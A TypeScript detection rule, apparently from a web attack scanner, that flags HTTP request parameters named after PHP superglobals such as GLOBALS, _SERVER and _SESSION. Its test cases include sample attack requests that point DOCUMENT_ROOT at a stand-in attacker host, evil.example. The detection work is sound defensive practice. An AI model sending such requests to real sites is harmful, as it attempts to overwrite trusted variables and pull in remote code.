import { each } from '../example.ts'
import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'php/superglobal-override',
  title: 'PHP superglobal as a parameter name',
  why: 'Tries to overwrite variables the script trusts (GLOBALS, _SERVER, _SESSION) by sending parameters of that name.',
  ja: {
    title: 'PHP のスーパーグローバル変数名のパラメーター',
    why: 'GLOBALS・_SERVER・_SESSION と同名のパラメーターを送り、スクリプトが信頼する変数を上書きしようとしています。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1190'],
  cwe: [473, 621],
  refs: [
    'https://cwe.mitre.org/data/definitions/473.html',
    'https://www.php.net/manual/en/language.variables.superglobals.php',
  ],

  where: ['arg'],
  needs: [
    [
      'globals[',
      '_server[',
      '_session[',
      '_request[',
      '_files[',
      '_env[',
      '_cookie[',
      '_post[',
      '_get[',
      '_phplib[',
    ],
  ],
  match: /^(?:GLOBALS|_(?:SERVER|SESSION|REQUEST|FILES|ENV|COOKIE|POST|GET|PHPLIB))\[/,

  hits: [
    'GET /a.php?GLOBALS[root]=x HTTP/1.1',
    'GET /a.php?_SERVER[DOCUMENT_ROOT]=http://evil.example/ HTTP/1.1',
    ...each(
      'GET /a.php?_{}[DOCUMENT_ROOT]=http://evil.example/ HTTP/1.1',
      'SESSION REQUEST FILES ENV COOKIE POST GET PHPLIB',
    ),
  ],
  misses: [
    'GET /a.php?globals=1 HTTP/1.1',
    'GET /a.php?my_session[id]=1 HTTP/1.1',
    { message: 'GLOBALS[root]=x' },
    'GET /a.php?myGLOBALS[root]=x HTTP/1.1',
  ],
})
